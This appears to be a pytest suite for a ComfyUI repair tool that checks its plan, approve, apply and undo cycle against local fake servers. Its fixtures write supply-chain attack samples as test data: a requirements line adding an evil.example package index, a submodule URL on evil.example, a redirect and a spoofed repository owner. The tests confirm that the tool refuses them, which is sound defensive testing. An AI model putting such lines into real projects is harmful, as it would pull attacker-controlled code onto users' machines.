"""fix → approve → apply → undo through the CLI, with a real venv as "ComfyUI's Python", the loopback git
server and package index: the recorded version is installed, requirements are vetted before approval, and
the undo plan brings the tree and the venv back to the snapshot."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from comfyfixer.agent.cli import run
from comfyfixer.agent.journal import read_journal
from comfyfixer.evals.fakes.file_server import FileServer
from comfyfixer.evals.fakes.git_server import GitServer, make_repo
from comfyfixer.evals.fakes.package_index import PackageIndex

PACK_INIT = 'NODE_CLASS_MAPPINGS = {"UndoNode": object}\n'


@pytest.fixture(scope="module")
def repos(git_repos: tuple[Path, dict[str, list[str]]], git_server: GitServer, index: PackageIndex) -> dict[str, Any]:
    """The packs of this module in the session's git server; a wheel only they need in the session's index."""
    root = git_repos[0]
    index.add_wheel("undo-newdep", "1.0")
    out: dict[str, Any] = {}
    for name, commits in {
        "UndoPack": [{"__init__.py": PACK_INIT, "requirements.txt": "foo>=2\nundo-newdep\n"},
                     {"later.py": "# newer than what the workflow records: must not be installed\n"}],
        "TorchPack": [{"__init__.py": "", "requirements.txt": "torch==1.0.0+cpu\n"}],
        "OptPack": [{"__init__.py": "", "requirements.txt": "--extra-index-url https://evil.example/simple\nfoo\n"}],
        "SubPack": [{"__init__.py": "", ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'}],
        "OldFooPack": [{"__init__.py": "", "requirements.txt": "needs-old-foo\n"}],
        "NoReqPack": [{"__init__.py": ""}],
    }.items():
        _, ids = make_repo(root, name, commits)
        out[name] = {"url": git_server.repo_url(name), "commits": ids}
    git_server.redirect("/Moved2.git", git_server.repo_url("UndoPack", host="localhost"))
    out["Moved"] = {"url": git_server.repo_url("Moved2"), "commits": out["UndoPack"]["commits"]}
    return out


@pytest.fixture(scope="module")
def venv_python(comfy_python: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the session's venv (torch 2.0.0, numpy 1.26.0, foo 1.0, tiny 1.0) that this module may change."""
    dst = tmp_path_factory.mktemp("undo-venv") / "venv"
    shutil.copytree(comfy_python.parent.parent, dst, symlinks=True)
    return dst / "bin" / "python"


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, venv_python: Path, index: PackageIndex) -> Path:
    monkeypatch.setenv("COMFYFIXER_ALLOWED_HOSTS", "127.0.0.1")
    monkeypatch.setenv("COMFYFIXER_COMFYUI_PYTHON", str(venv_python))
    monkeypatch.setenv("COMFYFIXER_PIP_INDEX_URL", index.index_url)
    monkeypatch.setenv("COMFYFIXER_HTTP_RETRIES", "1")
    monkeypatch.setenv("COMFYFIXER_HTTP_TIMEOUT", "10")
    monkeypatch.setenv("COMFYFIXER_STATE_DIR", str(tmp_path / "state"))
    return tmp_path / "state"


@pytest.fixture
def comfy(tmp_path: Path) -> Path:
    root = tmp_path / "ComfyUI"
    for sub in ("models/checkpoints", "models/loras", "models/vae", "custom_nodes/AlreadyHere"):
        (root / sub).mkdir(parents=True)
    (root / "custom_nodes/AlreadyHere/__init__.py").write_text("# the user's own pack\n")
    return root


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> Any:
    capsys.readouterr()
    code = run(list(args))
    out = capsys.readouterr().out
    assert code == 0, (args, out[-2000:])
    return json.loads(out)


def approve_apply(capsys: pytest.CaptureFixture[str], plan_file: str, *extra: str) -> dict[str, Any]:
    ok = cli(capsys, "approve", plan_file, "--yes", "--json", *extra)
    report = cli(capsys, "apply", ok["plan_file"], "--token", ok["token"], "--json", "--no-recheck")
    return {"plan_file": ok["plan_file"], "plan_id": ok["plan_id"], **report}


def tree(comfy: Path) -> dict[str, str]:
    """Every file under the ComfyUI folder (our own .comfyfixer folder and .git internals aside) → sha256."""
    return {p.relative_to(comfy).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(comfy.rglob("*")) if p.is_file()
            and p.relative_to(comfy).parts[0] != ".comfyfixer" and ".git" not in p.relative_to(comfy).parts}


def freeze(python: Path) -> list[str]:
    return subprocess.run([str(python), "-m", "pip", "freeze"], capture_output=True, text=True, check=True).stdout.split()


def workflow(path: Path, *nodes: dict[str, Any]) -> Path:
    path.write_text(json.dumps({"last_node_id": len(nodes), "last_link_id": 0, "links": [], "version": 0.4,
                                "nodes": [{"id": i + 1, "type": n.pop("type"), "pos": [0, 0], "size": [100, 100],
                                           "flags": {}, "order": i, "mode": 0, "inputs": [], "outputs": [],
                                           "properties": n, "widgets_values": []} for i, n in enumerate(nodes)]}))
    return path


def inputs(path: Path, comfy: Path, packs: dict[str, dict[str, Any]], **extra: Any) -> Path:
    """PlanInputs with one RESOLVED node class per pack (``{class: {"id":…, "reference":…, "commit"?:…}}``)."""
    path.write_text(json.dumps({"comfyui_dir": str(comfy), **extra, "node_types": [
        {"class_type": cls, "status": "RESOLVED", "packs": [pack]} for cls, pack in packs.items()]}))
    return path


def test_fix_apply_undo_brings_tree_and_venv_back(repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path,
                                                  venv_python: Path, capsys: pytest.CaptureFixture[str]) -> None:
    t0 = time.monotonic()
    recorded, head = repos["UndoPack"]["commits"]
    (comfy / "models/vae/misplaced_lora.safetensors").write_bytes(b"lora bytes")
    with FileServer(tmp_path / "served") as server:
        f = server.add_file("undo_model.safetensors", 1 << 20, seed=5)
        wf = workflow(tmp_path / "wf.json", {"type": "UndoNode", "cnr_id": "undo-pack", "ver": recorded})
        inp = inputs(tmp_path / "inputs.json", comfy, {"UndoNode": {"id": "undo-pack", "reference": repos["UndoPack"]["url"]}},
                     workflows=[str(wf)],
                     models=[{"filename": "undo_model.safetensors", "folder": "checkpoints", "verdict": "RESOLVED",
                              "candidates": [{"source": "hf", "url": server.direct_url(f.name), "sha256": f.sha256}]}],
                     misplaced=[{"filename": "misplaced_lora.safetensors", "found_in": "models/vae/misplaced_lora.safetensors",
                                 "expected_folder": "loras"}])
        before_tree, before_freeze = tree(comfy), freeze(venv_python)

        plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
        pack = next(a for a in plan["actions"] if a["kind"] == "install_node_pack")
        check = pack["check"]
        # the version the workflow recorded, not the newer head; said where it came from
        assert pack["commit"] == recorded != head and check["version_source"] == "recorded_commit"
        # requirements dry-run in ComfyUI's Python before approval: what changes, pinned
        assert check["vetting"] == "ok" and check["python_sha256"] and check["index_url"].endswith("/simple")
        changes = {c["name"]: (c["change"], c["before"], c["after"]) for c in check["changes"]}
        assert changes["foo"] == ("upgrade", "1.0", "2.0") and changes["undo-newdep"] == ("add", None, "1.0")
        assert "foo==2.0" in check["resolved"]
        summary = Path(plan["plan_file"]).with_suffix(".txt").read_text()
        assert f"repository: {repos['UndoPack']['url']}" in summary and "owner: 127.0.0.1\n" in summary
        assert "upgraded: foo 1.0 -> 2.0" in summary and "added: undo-newdep 1.0" in summary
        assert "pins (installed as constraints): " in summary
        assert freeze(venv_python) == before_freeze  # planning installed nothing

        applied = approve_apply(capsys, plan["plan_file"], "--confirm", "pack:undo-pack")
        assert {o["item"]: o["status"] for o in applied["outcomes"]} == {
            "move:loras/misplaced_lora.safetensors": "done", "model:checkpoints/undo_model.safetensors": "done",
            "pack:undo-pack": "done"}
    pack_dir = comfy / "custom_nodes/UndoPack"
    assert (pack_dir / "__init__.py").exists() and not (pack_dir / "later.py").exists()
    assert subprocess.run(["git", "-C", str(pack_dir), "rev-parse", "HEAD"], capture_output=True, text=True,
                          check=True).stdout.strip() == recorded
    after = freeze(venv_python)
    assert "foo==2.0" in after and "undo-newdep==1.0" in after
    snaps = cli(capsys, "snapshots", "--json")["snapshots"]
    assert [s["plan_id"] for s in snaps] == [applied["plan_id"]] and snaps[0]["placed"] == 3
    assert snaps[0]["pip_freeze_lines"] == len(before_freeze) and applied["snapshot_id"] == snaps[0]["snapshot_id"]

    undo = cli(capsys, "undo", applied["plan_id"][:12], "--json")
    assert undo["undo_of"] == applied["plan_id"] and undo["plan_id"] != applied["plan_id"]
    kinds = [(a["kind"], a.get("undoes")) for a in undo["actions"]]
    assert kinds == [("restore_python", "python"), ("quarantine", "pack:undo-pack"),
                     ("quarantine", "model:checkpoints/undo_model.safetensors"),
                     ("move_back", "move:loras/misplaced_lora.safetensors")]
    restore = undo["actions"][0]
    assert restore["install"] == ["foo==1.0"] and restore["uninstall"] == ["undo-newdep"]
    assert comfy.joinpath("custom_nodes/UndoPack").exists()  # planning the undo changed nothing
    entry = next(e for e in read_journal(env) if e["action"] == "install_node_pack")
    assert cli(capsys, "undo", entry["id"], "--json", "--dry-run")["plan_id"] == undo["plan_id"]  # by journal id

    reverted = approve_apply(capsys, undo["plan_file"])
    assert {o["status"] for o in reverted["outcomes"]} == {"done"}, reverted["outcomes"]
    assert tree(comfy) == before_tree
    assert freeze(venv_python) == before_freeze
    quarantined = sorted(p.name for p in (comfy / ".comfyfixer/quarantine").glob("*.quarantined"))
    assert sorted(n.split("-", 2)[2] for n in quarantined) == ["UndoPack.quarantined", "undo_model.safetensors.quarantined"]
    undone = [e for e in read_journal(env) if e["plan_id"] == undo["plan_id"]
              and e["action"] in ("restore_python", "quarantine", "move_back")]
    assert [e["action"] for e in undone] == ["restore_python", "quarantine", "quarantine", "move_back"]
    print(f"fix→apply→undo: {time.monotonic() - t0:.1f}s")


def test_attacks_and_conflicts_are_refused_in_the_plan_with_the_reason(
        repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path, index: PackageIndex,
        capsys: pytest.CaptureFixture[str]) -> None:
    def pack(name: str, pid: str) -> dict[str, Any]:
        return {"id": pid, "reference": repos[name]["url"], "commit": repos[name]["commits"][0]}

    inp = inputs(tmp_path / "inputs.json", comfy, {
        "SubNode": pack("SubPack", "sub-pack"), "OptNode": pack("OptPack", "opt-pack"),
        "MovedNode": pack("Moved", "moved-pack"), "OldFooNode": pack("OldFooPack", "old-foo"),
        "NewFooNode": pack("UndoPack", "new-foo")})
    fetched = len(index.fetched())
    plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
    assert plan["actions"] == []  # nothing that can be approved
    why = {u["name"]: u["reason"] for u in plan["unresolved"]}
    assert {u["verdict"] for u in plan["unresolved"]} == {"REFUSED"} and plan["unresolved"][0]["candidates"] == []
    assert "submodule x points at https://evil.example/x.git" in why["SubNode"]
    assert "--extra-index-url https://evil.example/simple" in why["OptNode"] and "install the pack" in why["OptNode"]
    assert "redirect, which is never followed" in why["MovedNode"]
    assert "conflict with new-foo" in why["OldFooNode"] and "conflict with old-foo" in why["NewFooNode"]
    summary = Path(plan["plan_file"]).with_suffix(".txt").read_text()
    assert "REFUSED pack 'sub-pack'" in summary and "(owner 127.0.0.1)" in summary
    assert index.fetched()[fetched:] == [] or all(p.endswith(".whl") for p in index.fetched()[fetched:])  # no sdist
    assert not (comfy / "custom_nodes").joinpath("SubPack").exists()


def test_torch_change_is_refused_unless_named_with_confirm_and_undone(
        repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path, venv_python: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    inp = inputs(tmp_path / "inputs.json", comfy, {"TorchNode": {"id": "torch-pack", "reference": repos["TorchPack"]["url"]}})
    before = freeze(venv_python)
    plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
    [action] = plan["actions"]
    assert action["check"]["guarded"] == ["torch"] and action["check"]["version_source"] == "remote_head"
    assert any("REFUSED by default: would change torch" in c and "--confirm pack:torch-pack" in c
               for c in action["confirm"])
    # --confirm-all does not cover a GPU-stack change: it is left out
    capsys.readouterr()
    assert run(["approve", plan["plan_file"], "--yes", "--confirm-all", "--dry-run"]) == 0
    assert "left out pack:torch-pack" in capsys.readouterr().err
    applied = approve_apply(capsys, plan["plan_file"], "--confirm", "pack:torch-pack")
    assert [o["status"] for o in applied["outcomes"]] == ["done"]
    assert "torch==1.0.0+cpu" in freeze(venv_python)
    undo = cli(capsys, "undo", applied["plan_id"], "--json")
    restore = undo["actions"][0]
    assert restore["kind"] == "restore_python" and restore["install"] == ["torch==2.0.0"]
    assert restore["guarded"] == ["torch"] and any("--confirm python" in c for c in restore["confirm"])
    reverted = approve_apply(capsys, undo["plan_file"], "--confirm", "python", "--confirm-all")
    assert {o["status"] for o in reverted["outcomes"]} == {"done"}
    assert freeze(venv_python) == before


def test_apply_refuses_when_comfyui_python_changed(repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    python = tmp_path / "copied-venv" / "bin" / "python"
    subprocess.run([sys.executable, "-m", "venv", "--copies", "--without-pip", str(python.parent.parent)], check=True)
    monkeypatch.setenv("COMFYFIXER_COMFYUI_PYTHON", str(python))
    inp = inputs(tmp_path / "inputs.json", comfy, {"N": {"id": "noreq", "reference": repos["NoReqPack"]["url"]}})
    plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
    [action] = plan["actions"]
    assert action["check"]["vetting"] == "ok" and action["check"]["python"] == str(python)
    with open(python, "ab") as fh:  # the interpreter is replaced after the plan was approved
        fh.write(b"\0")
    applied = approve_apply(capsys, plan["plan_file"], "--confirm", "pack:noreq")
    [outcome] = applied["outcomes"]
    assert outcome["status"] == "failed" and "changed since the plan was made" in outcome["message"]
    assert not (comfy / "custom_nodes/NoReqPack").exists()  # refused before cloning


def test_spoofed_aux_id_ends_uncertain_in_the_plan_and_nothing_is_cloned(
        repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path, git_server: GitServer,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    catalog = tmp_path / "catalog"
    catalog.mkdir()
    (catalog / "extension-node-map.json").write_text(json.dumps(
        {repos["UndoPack"]["url"]: [["UndoNode"], {"title_aux": "Undo pack"}]}))
    monkeypatch.setenv("COMFYFIXER_MANAGER_CATALOG_DIR", str(catalog))
    wf = workflow(tmp_path / "wf.json", {"type": "UndoNode", "aux_id": "evil-user/UndoPack",
                                         "ver": repos["UndoPack"]["commits"][0]})
    seen = len(git_server.requests)
    plan = cli(capsys, "fix", str(wf), "--comfyui", str(comfy), "--no-resolve", "--json")
    assert plan["actions"] == []
    [item] = plan["unresolved"]
    assert item["verdict"] == "UNCERTAIN" and "the workflow names evil-user/UndoPack" in item["reason"]
    assert [c["url"] for c in item["candidates"]] == [repos["UndoPack"]["url"], "https://github.com/evil-user/UndoPack"]
    assert git_server.requests[seen:] == []  # neither repository was contacted, let alone cloned

    # a class no catalog claims: the workflow's aux_id is all there is, so its owner must be confirmed
    wf2 = workflow(tmp_path / "wf2.json", {"type": "HintOnlyNode", "aux_id": "someone/HintPack"})
    plan2 = cli(capsys, "fix", str(wf2), "--comfyui", str(comfy), "--no-resolve", "--no-pin", "--json")
    [action] = plan2["actions"]
    assert action["hint_only"] and action["owner"] == "github.com/someone"
    assert any("comes only from the workflow's aux_id" in c for c in action["confirm"])
    assert "(named only by the workflow" in Path(plan2["plan_file"]).with_suffix(".txt").read_text()


def test_without_comfyui_python_or_pinning_the_plan_says_what_was_not_checked(
        repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("COMFYFIXER_COMFYUI_PYTHON")
    inp = inputs(tmp_path / "inputs.json", comfy, {"UndoNode": {"id": "undo-pack", "reference": repos["UndoPack"]["url"]},
                                                   "OptNode": {"id": "opt-pack", "reference": repos["OptPack"]["url"]}})
    plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
    [action] = plan["actions"]
    assert action["check"]["vetting"] == "not_checked" and "comfyui_python is not set" in action["check"]["not_checked"]
    assert any("requirements were NOT checked" in c for c in action["confirm"])
    assert action["check"]["requirements"] == ["foo>=2", "undo-newdep"]  # still read, and shown
    # a refused requirement line is found without any Python
    assert [u["verdict"] for u in plan["unresolved"]] == ["REFUSED"]
    offline = cli(capsys, "fix", "--inputs", str(inp), "--json", "--no-pin")
    assert all("NOT checked (--no-pin" in " ".join(a["confirm"]) for a in offline["actions"])
    assert len(offline["actions"]) == 2  # nothing was fetched, so nothing could be refused either


def test_undo_leaves_a_file_changed_since_apply_alone(env: Path, comfy: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("COMFYFIXER_COMFYUI_PYTHON")
    with FileServer(tmp_path / "served") as server:
        names = ["keep_me.safetensors", "take_back.safetensors"]
        files = [server.add_file(n, 4096, seed=i) for i, n in enumerate(names)]
        inp = inputs(tmp_path / "inputs.json", comfy, {}, models=[
            {"filename": f.name, "folder": "checkpoints", "verdict": "RESOLVED",
             "candidates": [{"source": "hf", "url": server.direct_url(f.name), "sha256": f.sha256}]} for f in files])
        applied = approve_apply(capsys, cli(capsys, "fix", "--inputs", str(inp), "--json")["plan_file"])
    edited = comfy / "models/checkpoints/keep_me.safetensors"
    edited.write_bytes(b"the user's own edit")
    undo = cli(capsys, "undo", applied["plan_id"], "--json", "--purge")
    assert [a["path"] for a in undo["actions"]] == ["models/checkpoints/take_back.safetensors"]
    assert undo["actions"][0]["purge"] is True
    assert undo["left_alone"] == ["models/checkpoints/keep_me.safetensors changed since the plan was applied: left alone"]
    approve_apply(capsys, undo["plan_file"])
    assert edited.read_bytes() == b"the user's own edit"
    assert not (comfy / "models/checkpoints/take_back.safetensors").exists()
    assert not (comfy / ".comfyfixer/quarantine").exists()  # --purge: deleted, not quarantined


def test_registry_version_installs_the_commit_of_its_git_tag(
        git_repos: tuple[Path, dict[str, list[str]]], git_server: GitServer, env: Path, comfy: Path, tmp_path: Path,
        index: PackageIndex, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    # the "registry" answers 404 to everything: the version is not known there, but the repository has tag v1.0.0
    monkeypatch.setenv("COMFYFIXER_COMFY_REGISTRY_URL", index.url)
    wf = workflow(tmp_path / "wf.json", {"type": "TagNode", "cnr_id": "pack", "ver": "1.0.0"},
                  {"type": "TagNode", "cnr_id": "pack", "ver": "1.0.0"}, {"type": "TagNode", "cnr_id": "pack", "ver": "2.0.0"})
    inp = inputs(tmp_path / "inputs.json", comfy, {"TagNode": {"id": "pack", "reference": git_server.repo_url("Pack")}},
                 workflows=[str(wf)])
    [action] = cli(capsys, "fix", "--inputs", str(inp), "--json")["actions"]
    first, head = git_repos[1]["Pack"]
    assert action["commit"] == first != head
    check = action["check"]
    assert check["version_source"] == "registry_tag" and check["recorded_version"] == "1.0.0"
    assert check["installed_instead"] is None  # exactly the recorded version, though the registry does not know it
    assert any("record different versions of pack: 1.0.0 (2 nodes), 2.0.0 (1 node)" in w for w in check["warnings"])
    assert check["vetting"] == "ok" and check["changes"] == []  # tiny 1.0 is already there


def test_undo_removes_the_link_kept_for_another_workflow_only(env: Path, comfy: Path, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("COMFYFIXER_COMFYUI_PYTHON")
    (comfy / "models/vae/shared.safetensors").write_bytes(b"shared bytes")
    saved = comfy / "user/default/workflows/other.json"  # another workflow loads it where it is
    saved.parent.mkdir(parents=True)
    saved.write_text(json.dumps({"last_node_id": 1, "last_link_id": 0, "links": [], "version": 0.4, "nodes": [
        {"id": 1, "type": "VAELoader", "pos": [0, 0], "size": [100, 100], "flags": {}, "order": 0, "mode": 0,
         "inputs": [], "outputs": [], "properties": {}, "widgets_values": ["shared.safetensors"]}]}))
    before = tree(comfy)
    inp = inputs(tmp_path / "inputs.json", comfy, {}, misplaced=[
        {"filename": "shared.safetensors", "found_in": "models/vae/shared.safetensors", "expected_folder": "loras"}])
    applied = approve_apply(capsys, cli(capsys, "fix", "--inputs", str(inp), "--json")["plan_file"])
    [moved] = applied["outcomes"]
    assert moved["details"]["kept_original"] and (comfy / "models/loras/shared.safetensors").exists()
    undo = cli(capsys, "undo", applied["plan_id"], "--json")
    assert [(a["kind"], a["path"], a["original"]) for a in undo["actions"]] == [
        ("remove_copy", "models/loras/shared.safetensors", "models/vae/shared.safetensors")]
    approve_apply(capsys, undo["plan_file"])
    assert tree(comfy) == before


def test_undo_after_a_run_that_never_finished_reads_the_journal(env: Path, comfy: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("COMFYFIXER_COMFYUI_PYTHON")
    with FileServer(tmp_path / "served") as server:
        f = server.add_file("killed.safetensors", 4096, seed=9)
        inp = inputs(tmp_path / "inputs.json", comfy, {}, models=[
            {"filename": f.name, "folder": "checkpoints", "verdict": "RESOLVED",
             "candidates": [{"source": "hf", "url": server.direct_url(f.name), "sha256": f.sha256}]}])
        applied = approve_apply(capsys, cli(capsys, "fix", "--inputs", str(inp), "--json")["plan_file"])
    # what a kill after the download but before the end of the run leaves: the snapshot as taken at the start
    [snap_file] = (env / "snapshots").glob("*.json")
    data = json.loads(snap_file.read_text())
    snap_file.write_text(json.dumps({**data, "finished_at": None, "placed": [], "journal_entries": []}))
    assert cli(capsys, "snapshots", "--json")["snapshots"][0]["finished"] is False
    undo = cli(capsys, "undo", applied["plan_id"], "--json")
    assert [(a["kind"], a["sha256"]) for a in undo["actions"]] == [("quarantine", f.sha256)]
    assert "the run did not finish" in Path(undo["plan_file"]).with_suffix(".txt").read_text()
